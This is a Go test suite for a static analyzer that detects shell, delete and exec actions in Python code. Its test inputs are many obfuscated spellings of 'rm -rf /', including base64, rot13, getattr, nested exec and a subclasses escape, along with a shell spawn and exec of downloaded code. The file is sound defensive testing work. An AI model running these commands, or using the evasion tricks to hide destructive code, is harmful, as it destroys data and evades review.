package script

import (
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

const wipe = `shell os.system "rm -rf /"`

// pythonSpellings are ways to write one call (B10, M18).
var pythonSpellings = []readCase{
	{"plain", `import os; os.system('rm -rf /')`, wipe},
	{"without import, as an earlier exec may have done it", `os.system('rm -rf /')`, wipe},
	{"module alias", `import os as o; o.system('rm -rf /')`, wipe},
	{"function alias", `from os import system as s; s('rm -rf /')`, wipe},
	{"several imported", "from os import (path,\n  system as s,)\ns('rm -rf /')", wipe},
	{"star import", `from os import *; system('rm -rf /')`, wipe},
	{"the module behind it", `import posix; posix.system('rm -rf /')`, wipe},
	{"through another module", `import shutil; shutil.os.system('rm -rf /')`, wipe},
	{"through an unknown object", `x.y.os.system('rm -rf /')`, wipe},
	{"submodule import binds the package", `import os.path; os.system('rm -rf /')`, wipe},
	{"__import__", `__import__('os').system('rm -rf /')`, wipe},
	{"__import__ of joined letters", `__import__('o'+'s').system('rm -rf /')`, wipe},
	{"import_module", `import importlib as i; i.import_module("os").system('rm -rf /')`, wipe},
	{"sys.modules", `import sys; sys.modules['os'].system('rm -rf /')`, wipe},
	{"getattr", `import os; getattr(os, 'sys' 'tem')('rm -rf /')`, wipe},
	{"getattr with default", `import os; getattr(os, 'system', None)('rm -rf /')`, wipe},
	{"__dict__", `import os; os.__dict__['system']('rm -rf /')`, wipe},
	{"vars", `import os; vars(os)['system']('rm -rf /')`, wipe},
	{"globals", `import os; globals()['os'].system('rm -rf /')`, wipe},
	{"builtins", `import builtins; builtins.__import__('os').system('rm -rf /')`, wipe},
	{"__builtins__ by subscript", `__builtins__['__import__']('os').system('rm -rf /')`, wipe},
	{"__builtins__ by __dict__", `__builtins__.__dict__['eval']("__import__('os').system('rm -rf /')")`, wipe},
	{"function in a name", `import os; f = os.system; f('rm -rf /')`, wipe},
	{"function in a default", "import os\ndef f(c, g=os.system):\n  g('rm -rf /')", wipe},
	{"imported in a function", "def f():\n\timport os as z\n\tz.system('rm -rf /')", wipe},
	{"imported below", "def f():\n s = o.system\n s('rm -rf /')\nimport os as o\nf()", `shell o.system "rm -rf /"` + "\n" + wipe},
	{"spaces and a backslash", "import os\nos . \\\n system ('rm -rf /')", wipe},
	{"brackets over lines", "import os\nos.system(\n  # a comment\n  'rm '\n  '-rf /'\n)", wipe},
	{"brackets around the function", `import os; (os.system)('rm -rf /')`, wipe},
	{"keyword argument", `import os; os.system(command='rm -rf /')`, wipe},
	{"starred argument", `import os; os.system(*['rm -rf /'])`, wipe},
	{"walrus", `import os; (s := os.system)('rm -rf /')`, wipe},
	{"conditional expression", `import os; os.system('ls' if x else 'rm -rf /')`, `shell os.system "ls"` + "\n" + wipe},
	{"lambda", `import os; (lambda: os.system('rm -rf /'))()`, wipe},
	{"comprehension", `import os; [os.system(c) for c in ['rm -rf /']]`, wipe},
	{"loop", "import os\nfor c in ('ls', 'rm -rf /'): os.system(c)", `shell os.system "ls"` + "\n" + wipe},
	{"in an f-string", `import os; print(f"{os.system('rm -rf /')}")`, wipe},
	{"in the format of an f-string", `import os; f'{x:{os.system("rm -rf /")}}'`, wipe},
	{"in an f-string with its own quotes", `import os; f'{os.system('rm -rf /')!r}'`, wipe},
	{"if on one line", `import os` + "\n" + `if 1: os.system('rm -rf /')`, wipe},
	{"else on one line", "import os\nif 0: pass\nelse: os.system('rm -rf /')", wipe},
	{"with", "import os\nwith open('x') as f, g(os.system('rm -rf /')): pass", `reads open "x"` + "\n" + wipe},
	{"match", "import os\nmatch x:\n  case 1: os.system('rm -rf /')", wipe},
	{"annotated name", "import os\nc: str = 'rm -rf /'\nos.system(c)", wipe},
	{"decorator argument", "import os\n@d(os.system('rm -rf /'))\ndef f(): pass", wipe},
	{"default argument", "import os\ndef f(x=os.system('rm -rf /')): pass", wipe},
	{"annotation of a parameter", "import os\ndef f(x: os.system('rm -rf /')): pass", wipe},
	{"subscript target", `import os; x[os.system('rm -rf /')] = 1`, wipe},
	{"raise from", `import os; raise x from os.system('rm -rf /')`, wipe},
	{"await", `import asyncio; await asyncio.create_subprocess_shell('rm -rf /')`, `shell asyncio.create_subprocess_shell "rm -rf /"`},
	{"after a number that touches a keyword", `import os; 1if os.system('rm -rf /')else 2`, wipe},
	{"carriage returns end lines", "import os\ros.system('rm -rf /')\r", wipe},
	{"byte order mark", "\ufeffimport os; os.system('rm -rf /')", wipe},
	{"popen", `import os; os.popen('rm -rf /').read()`, `shell os.popen "rm -rf /"`},
	{"commands of Python 2", `import commands; print commands.getoutput('rm -rf /')`, `shell commands.getoutput "rm -rf /"`},
	{"C library", `import ctypes; ctypes.CDLL(None).system(b'rm -rf /')`, "evaluates ctypes.CDLL …\n" + `shell ctypes.CDLL().system "rm -rf /"`},
	{"a wrapper object's method", `get_ipython().system('rm -rf /')`, `shell get_ipython().system "rm -rf /"`},
}

func TestPythonSpellings(t *testing.T) { runCases(t, "python3", pythonSpellings) }

// pythonConstants are ways to build the text.
var pythonConstants = []readCase{
	{"name", `c='rm -rf /'; import os; os.system(c)`, wipe},
	{"name bound below", "import os\ndef f(): os.system(c)\nc='rm -rf /'\nf()", wipe},
	{"plus", `import os; os.system('rm' + ' -rf ' + '/')`, wipe},
	{"augmented at the top", "import os\nc = 'rm'\nc += ' -rf /'\nos.system(c)", `shell os.system "rm"` + "\n" + wipe},
	{"either branch", "import os\nif x:\n c='ls'\nelse:\n c='rm -rf /'\nos.system(c)", `shell os.system "ls"` + "\n" + wipe},
	{"grown in a loop", "import os\nc='rm'\nfor i in x:\n c += ' /'\nos.system(c)", `shell os.system "rm"` + "\n" + `shell os.system "rm /"` + "\n" + `shell os.system …`},
	{"escapes", `import os; os.system('\x72\155 -rf \u002f')`, wipe},
	{"raw keeps backslashes", `import os; os.system(r'\x72')`, `shell os.system "\\x72"`},
	{"a named character is unknown", `import os; os.system('rm -rf \N{SOLIDUS}')`, `shell os.system rm -rf …`},
	{"bytes", `import os; os.system(b'rm -rf /')`, wipe},
	{"triple quotes", `import os; os.system("""rm -rf /""")`, wipe},
	{"line continued in a string", "import os; os.system('rm -rf \\\n/')", wipe},
	{"f-string of constants", `import os; d='/'; os.system(f'rm -rf {d}')`, wipe},
	{"f-string with doubled braces", `import os; os.system(f'echo {{}}')`, `shell os.system "echo {}"`},
	{"percent", `import os; os.system('rm %s %s' % ('-rf', '/'))`, wipe},
	{"format", `import os; os.system('{} -rf {x}'.format('rm', x='/'))`, wipe},
	{"join", `import os; os.system(' '.join(['rm', '-rf', '/']))`, wipe},
	{"join of letters", `import os; os.system(''.join([chr(114), chr(0x6d)]) + ' -rf /')`, wipe},
	{"reversed", `import os; os.system('/ fr- mr'[::-1])`, wipe},
	{"replace", `import os; os.system('rX -rf /'.replace('X', 'm'))`, wipe},
	{"case", `import os; os.system('RM -RF /'.lower())`, wipe},
	{"base64", `import os,base64; os.system(base64.b64decode('cm0gLXJmIC8=').decode())`, wipe},
	{"hex", `import os; os.system(bytes.fromhex('726d202d7266202f').decode())`, wipe},
	{"rot13", `import os,codecs; os.system(codecs.decode('ez -es /', 'rot13'))`, wipe},
	{"element of a list", `import os; l=['x','rm -rf /']; os.system(l[1]); os.system(l[-1])`, wipe + "\n" + wipe},
	{"unpacked", `import os; a, b = 'ls', 'rm -rf /'; os.system(b)`, wipe},
	{"home from the environment", `import os; os.system('rm -rf ' + os.environ['HOME'])`, `shell os.system "rm -rf ~"`},
	{"home by expanduser", `import shutil,os; shutil.rmtree(os.path.expanduser('~/x'))`, `deletes shutil.rmtree "~/x" /**`},
	{"joined path", `import os; os.remove(os.path.join('/etc', 'a', 'b'))`, `deletes os.remove "/etc/a/b"`},
	{"an absolute part discards", `import os; os.remove(os.path.join('x', '/etc/a'))`, `deletes os.remove "/etc/a"`},
}

func TestPythonConstants(t *testing.T) { runCases(t, "python3", pythonConstants) }

// pythonDynamic must be reported as not known (B10, B11).
var pythonDynamic = []readCase{
	{"command from input", `import os; os.system(input())`, `shell os.system …`},
	{"command from arguments", `import os,sys; os.system(' '.join(sys.argv[1:]))`, `shell os.system …`},
	{"command with an unknown end keeps its beginning", `import os; os.system(f'ls {d}')`, `shell os.system ls …`},
	{"parameter", "import os\ndef f(c): os.system(c)\nf(input())", `shell os.system …`},
	{"eval of input", `eval(input())`, `evaluates eval …`},
	{"exec of a name", `exec(x)`, `evaluates exec …`},
	{"exec of compiled input", `exec(compile(x, 'f', 'exec'))`, `evaluates exec …`},
	{"exec as a statement of Python 2", `exec x`, `evaluates exec …`},
	{"exec of a download", `import requests as r; exec(r.get('http://example.com').text)`, `connects requests.get "http://example.com"` + "\n" + `evaluates exec …`},
	{"__import__ of a name", `__import__(m).x()`, `evaluates __import__ …`},
	{"getattr with an unknown name", `import os; getattr(os, n)('x')`, `evaluates getattr …`},
	{"__dict__ with an unknown name", `import os; os.__dict__[n]('x')`, `evaluates os.__dict__[] …`},
	{"in a list", `import os; [os.system][0]`, `shell os.system …`},
	{"in a dictionary", `import os; d = {'a': os.system}; d['a']('rm')`, "shell os.system …\nshell os.system \"rm\""},
	{"stored in an object", `import os; self.f = os.system`, `shell os.system …`},
	{"returned", "import os\ndef f(): return os.system", `shell os.system …`},
	{"as a decorator", "@exec\n@input\nclass X: pass", `evaluates exec …`},
	{"as a key function", `import os; sorted(x, key=os.system)`, `shell os.system …`},
	{"every class there is", `().__class__.__base__.__subclasses__()`, `evaluates ?.__subclasses__ …`},
	{"arguments unknown", `import subprocess as s; s.run(*x)`, `runs subprocess.run …`},
	{"list with an unknown rest", `import subprocess as s; s.run(['rm', '-rf'] + x)`, `runs subprocess.run "rm" "-rf" …`},
	{"shell flag unknown", `import subprocess as s; s.run('ls', shell=x)`, `shell subprocess.run "ls"`},
	{"keywords unknown", `import subprocess as s; s.run('ls', **k)`, `shell subprocess.run "ls"`},
	{"mode unknown reads and writes", `open('x', m)`, "reads open \"x\"\nwrites open \"x\""},
	{"a builtin that is bound only sometimes", "if x:\n  eval = f\neval(y)", `evaluates eval …`},
	{"a builtin bound and deleted", "eval = 1\ndel eval\neval(x)", `evaluates eval …`},
}

func TestPythonDynamic(t *testing.T) { runCases(t, "python3", pythonDynamic) }

var pythonCommands = []readCase{
	{"list", `import subprocess; subprocess.run(['rm', '-rf', '/'])`, `runs subprocess.run "rm" "-rf" "/"`},
	{"tuple in a name", `import subprocess; c=('rm','-rf','/'); subprocess.call(c)`, `runs subprocess.call "rm" "-rf" "/"`},
	{"string with a shell", `from subprocess import *; check_call("rm -rf /", shell=True)`, `shell subprocess.check_call "rm -rf /"`},
	{"shell as a number", `import subprocess as s; s.Popen("rm -rf /", shell=1)`, `shell subprocess.Popen "rm -rf /"`},
	{"string without a shell is one word", `import subprocess as s; s.run("rm -rf /")`, `runs subprocess.run "rm -rf /"`},
	{"shell False", `import subprocess as s; s.run("ls", shell=False)`, `runs subprocess.run "ls"`},
	{"list with a shell runs its first", `import subprocess as s; s.run(["rm -rf /", "x"], shell=True)`, `shell subprocess.run "rm -rf /"`},
	{"args by keyword", `import subprocess as s; s.run(shell=True, args="rm -rf /")`, `shell subprocess.run "rm -rf /"`},
	{"executable replaces the program", `import subprocess as s; s.run(["ls", "-rf", "/"], executable="rm")`, `runs subprocess.run "rm" "-rf" "/"`},
	{"getoutput has a shell", `import subprocess as s; s.getoutput("rm -rf /")`, `shell subprocess.getoutput "rm -rf /"`},
	{"split", `import subprocess as s; s.run('rm -rf /'.split())`, `runs subprocess.run "rm" "-rf" "/"`},
	{"shlex.split", `import subprocess as s, shlex; s.run(shlex.split('rm -rf "/a b"'))`, `runs subprocess.run "rm" "-rf" "/a b"`},
	{"split of a text with an unknown end", `import subprocess as s; s.run(f'rm -rf {x}'.split())`, `runs subprocess.run "rm" "-rf" …`},
	{"appended", "import subprocess as s\nc=['rm']\nc.append('-rf')\nc.extend(['/'])\ns.run(c)", "runs subprocess.run \"rm\"\nruns subprocess.run \"rm\" \"-rf\"\nruns subprocess.run \"rm\" \"-rf\" \"/\""},
	{"unpacked list", `import subprocess as s; o=['-rf','/']; s.run(['rm', *o])`, `runs subprocess.run "rm" "-rf" "/"`},
	{"loop over operands", "import subprocess as s\nfor d in ['a', '/']:\n  s.run(['rm', '-rf', d])", "runs subprocess.run \"rm\" \"-rf\" \"a\"\nruns subprocess.run \"rm\" \"-rf\" \"/\""},
	{"working directory", `import subprocess as s; s.run('rm -rf *', shell=True, cwd='/')`, `shell subprocess.run "rm -rf *" in "/"`},
	{"changed directory", `import os; os.chdir('/'); os.system('rm -rf *')`, `shell os.system "rm -rf *" in "/"`},
	{"changed twice", `import os; os.chdir('/a'); os.chdir('b'); os.remove('c')`, `deletes os.remove "c" in "/a/b"`},
	{"changed to an unknown one", `import os; os.chdir(x); os.remove('c')`, `deletes os.remove "c" in …`},
	{"itself", `import subprocess, sys; subprocess.run([sys.executable, '-m', 'pip'])`, `runs subprocess.run "python3" "-m" "pip"`},
	{"execvp", `import os; os.execvp('rm', ['x', '-rf', '/'])`, `runs os.execvp "rm" "-rf" "/"`},
	{"execl", `import os; os.execl('/bin/rm', 'rm', '-rf', '/')`, `runs os.execl "/bin/rm" "-rf" "/"`},
	{"execle drops the environment", `import os; os.execle('/bin/rm', 'rm', '/', {})`, `runs os.execle "/bin/rm" "/"`},
	{"spawnlp", `import os; os.spawnlp(os.P_WAIT, 'rm', 'rm', '-rf', '/')`, `runs os.spawnlp "rm" "-rf" "/"`},
	{"posix_spawn", `import os; os.posix_spawn('/bin/rm', ['rm', '-rf', '/'], {})`, `runs os.posix_spawn "/bin/rm" "-rf" "/"`},
	{"create_subprocess_exec", `import asyncio; asyncio.create_subprocess_exec('rm', '-rf', '/')`, `runs asyncio.create_subprocess_exec "rm" "-rf" "/"`},
	{"asyncio.subprocess is another", `import asyncio.subprocess as s; s.create_subprocess_shell('x')`, `shell asyncio.create_subprocess_shell "x"`},
	{"pty.spawn of a string (M18)", `import pty; pty.spawn('/bin/sh')`, `runs pty.spawn "/bin/sh"`},
	{"pty.spawn of a list", `import pty; pty.spawn(['rm', '-rf', '/'])`, `runs pty.spawn "rm" "-rf" "/"`},
	{"mapped", `import os; list(map(os.system, ['rm -rf /']))`, wipe},
	{"mapped over vectors", `import subprocess as s; list(map(s.run, [['rm', '/']]))`, `runs subprocess.run "rm" "/"`},
	{"thread", `import os, threading; threading.Thread(target=os.system, args=('rm -rf /',)).start()`, wipe},
	{"partial", `import os, functools; functools.partial(os.system, 'rm -rf /')()`, wipe},
	{"at exit", `import atexit, shutil; atexit.register(shutil.rmtree, '/')`, `deletes shutil.rmtree "/" /**`},
	{"runpy", `import runpy; runpy.run_path('x.py')`, `runs runpy.run_path "python3" "x.py"`},
	{"exec of a descriptor", `exec(open(0).read())`, "evaluates exec …"},
	{"exec of a device", `f = '/dev/stdin'; exec(open(f).read())`, "reads open \"/dev/stdin\"\nevaluates exec …"},
	{"exec of a file that only execution knows", `exec(open(x).read())`, "reads open …\nevaluates exec …"},
	{"exec of a file", `exec(open('x.py').read())`, "reads open \"x.py\"\nruns exec \"python3\" \"x.py\""},
	{"exec of a compiled file", `exec(compile(open('x.py').read(), 'x.py', 'exec'))`, "reads open \"x.py\"\nruns exec \"python3\" \"x.py\""},
}

func TestPythonCommands(t *testing.T) { runCases(t, "python3", pythonCommands) }

// pythonNested is code in strings (B11).
var pythonNested = []readCase{
	{"eval", `eval("__import__('os').system('rm -rf /')")`, wipe},
	{"exec", `exec("import os\nos.system('rm -rf /')")`, wipe},
	{"exec twice", `exec("exec(\"import os; os.system('rm -rf /')\")")`, wipe},
	{"what it imports stays", `exec("import os as q"); q.system('rm -rf /')`, wipe},
	{"what is bound outside holds", `import os as q; c='rm -rf /'; exec("q.system(c)")`, wipe},
	{"compiled", `exec(compile("import os; os.system('rm -rf /')", '', 'exec'))`, wipe},
	{"Python 2", `exec "import os; os.system('rm -rf /')"`, wipe},
	{"base64", `import base64 as b; exec(b.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3JtIC1yZiAvJyk='))`, wipe},
	{"timeit", `import timeit; timeit.timeit("os.system('rm -rf /')", setup="import os")`, wipe},
	{"harmless code is quiet", `eval("1 + 2")`, ""},
	{"code that cannot be read", `eval("'")`, `evaluates eval '…`},
}

func TestPythonNested(t *testing.T) { runCases(t, "python3", pythonNested) }

// pythonQuiet is data, and ordinary code (M6).
var pythonQuiet = []readCase{
	{"nothing", ``, ""},
	{"a word in print (M6)", `print('subprocess')`, ""},
	{"a call in a string", `print("os.system('rm')")`, ""},
	{"a call in a comment", "# os.system('rm -rf /')\nprint(1)", ""},
	{"a call in a docstring", `"""os.system('rm -rf /')"""`, ""},
	{"a call in the text of an f-string", `print(f"{{os.system('x')}}")`, ""},
	{"imports alone", `import os, subprocess, shutil, pty, socket`, ""},
	{"methods called eval", `model.eval(); df.eval('a+b'); cursor.exec('x')`, ""},
	{"re.compile", `import re; re.compile(r'\d+')`, ""},
	{"compile imported from re", `from re import compile; compile(x)`, ""},
	{"compile to check the syntax", `compile(x, 'f', 'exec')`, ""},
	{"eval bound to something else", "def eval(x): pass\neval(y)", ""},
	{"platform.system", `import platform; print(platform.system())`, ""},
	{"versions", `import sys, fasttext; print('v:', getattr(fasttext, '__version__', 'n/a'), sys.version)`, ""},
	{"looking at a function", `import os; print(os.system, hasattr(os, 'system'))`, ""},
	{"comprehension", `import sys; print(sum([int(n) for n in sys.stdin.readlines() if n != ''], 0))`, ""},
	{"Python 2 print", `import sys; print sum([1,2]), "x"; print >>sys.stderr, 'x'`, ""},
	{"format of f-strings", `print(f'{x:>{w}.2f} {y!r:^10} {z=} {d["a"]}')`, ""},
	{"numbers", `print(1_000, 0xff, 1e-3, .5j, 10L, 0b1, 1.)`, ""},
	{"lambda, slices, stars", `f = lambda a, *b, c=1, **d: a[1:2, ::3]; f(*x, **y)`, ""},
	{"class", "class A(B, metaclass=M):\n  x: int = 1\n  def f(self, a: int = 2, /, *, b) -> str:\n    return self.x @ a", ""},
	{"try", "try:\n  import x\nexcept (A, B) as e:\n  raise C('m') from e\nelse:\n  pass\nfinally:\n  del x", ""},
	{"async", "async def f():\n  async with a as b:\n    async for c in b:\n      yield await c", ""},
	{"json from a pipe", `import json,sys; print(json.load(sys.stdin)['a'][0].get('b'))`, ""},
	{"names in other letters", `größe = 1; print(größe)`, ""},
}

func TestPythonQuiet(t *testing.T) { runCases(t, "python3", pythonQuiet) }

func TestPythonRefuses(t *testing.T) {
	refused(t, "python", []readCase{
		{"past the size", strings.Repeat("x", MaxSource+1), "longer than"},
		{"brackets too deep", strings.Repeat("(", 500) + strings.Repeat(")", 500), "nested over 200"},
		{"f-strings too deep", strings.Repeat(`f"{`, 300), "nested over 200"},
		{"lambdas too deep", strings.Repeat("lambda:", 500) + "0", "nested over 200"},
		{"unterminated string", "print('x\n')", "line 1: unterminated string"},
		{"unterminated triple quote", `x = """a`, "unterminated string"},
		{"unterminated f-string", `f"{x`, "line 1"},
		{"open bracket", "\nprint(", `line 2: '(' is never closed`},
		{"closed too much", "print)", `')' closes nothing`},
		{"brackets crossed", "([)]", `')' closes nothing`},
		{"other characters", "x = !ls", `unexpected character '!'`},
		{"backslash in a line", `a \ b`, "after a backslash"},
		{"NUL", "a\x00b", "not UTF-8 text"},
		{"not UTF-8", "a = '\xff'", "not UTF-8 text"},
		{"code in disguise", "# -*- coding: utf_7 -*-\nx", `encoding "utf-7"`},
		{"letters in disguise", "import ｏｓ", "another letter"},
		{"long s", "oſ.ſyſtem('x')", "another letter"},
	})
}

func TestPythonFoldingIsBounded(t *testing.T) {
	double := "a = 'x'\n"
	for i := range 100 {
		double += fmt.Sprintf("a%d = a%d + a%d\n", i+1, i, i)
	}
	bounded(t, "python", map[string]string{
		"doubling":    strings.Replace(double, "a = ", "a0 = ", 1) + "import os; os.system(a100)",
		"repetition":  "import os; os.system('x' * 9999999 * 9999999)",
		"nested code": "c = 'exec(c); exec(c)'\nexec(c)",
		"many values": "a = 1\n" + strings.Repeat("a = a + 1; b = a; os.system(str(a) + str(b) + str(a) + str(b))\n", 2000),
		"many stars":  strings.Repeat("from os import *\n", 5000) + strings.Repeat("x()\n", 5000),
		"long names":  "x" + strings.Repeat(".os", 20000),
		"long chains": "x" + strings.Repeat("()", 20000),
	})
}

func TestLanguagesWithReader(t *testing.T) {
	for _, lang := range []string{"python", "python2", "python3", "python3.11"} {
		assert.True(t, HasReader(lang), lang)
	}
	for _, lang := range []string{"", "3", "node", "pythonista", "Python"} {
		assert.False(t, HasReader(lang), lang)
		_, err := Read(lang, "1")
		assert.Error(t, err, lang)
	}
}

func TestKindString(t *testing.T) {
	assert.Equal(t, "none", Kind(0).String())
	assert.Equal(t, "listens", Listens.String())
	assert.Equal(t, "kind(99)", Kind(99).String())
}

func TestActHasItsPlace(t *testing.T) {
	code := "import os\nprint(1); os.system('x') # end"
	acts, err := Read("python", code)
	require.NoError(t, err)
	require.Len(t, acts, 1)
	assert.Equal(t, "os.system('x')", code[acts[0].Offset:acts[0].End])

	code = `y = 2; exec("import os\n\n\nos.remove('x')")`
	acts, err = Read("python", code)
	require.NoError(t, err)
	require.Len(t, acts, 1)
	assert.Equal(t, code[7:], code[acts[0].Offset:acts[0].End], "code in a string has the place of its call")
}

func allPython() []readCase {
	var all []readCase
	for _, t := range [][]readCase{pythonSpellings, pythonConstants, pythonDynamic, pythonCommands, pythonNested, pythonFiles, pythonNetwork, pythonQuiet, pythonLocals, pythonOutOfSight} {
		all = append(all, t...)
	}
	return all
}

func FuzzPython(f *testing.F) {
	for _, c := range allPython() {
		f.Add(c.code)
	}
	f.Fuzz(func(t *testing.T, code string) {
		acts, err := Read("python", code)
		if err != nil {
			require.Nil(t, acts)
			return
		}
		for _, a := range acts {
			if a.Offset < 0 || a.Offset > a.End || a.End > len(code) || len(a.Args) == 0 || a.Kind == 0 {
				t.Fatalf("%q: %+v", code, a)
			}
		}
	})
}

func BenchmarkPython(b *testing.B) {
	code := "import json, sys\nfor line in sys.stdin:\n    d = json.loads(line)\n    print(f\"{d['a']}: {d.get('b', 0):>8}\")\n"
	b.SetBytes(int64(len(code)))
	for b.Loop() {
		if _, err := Read("python", code); err != nil {
			b.Fatal(err)
		}
	}
}
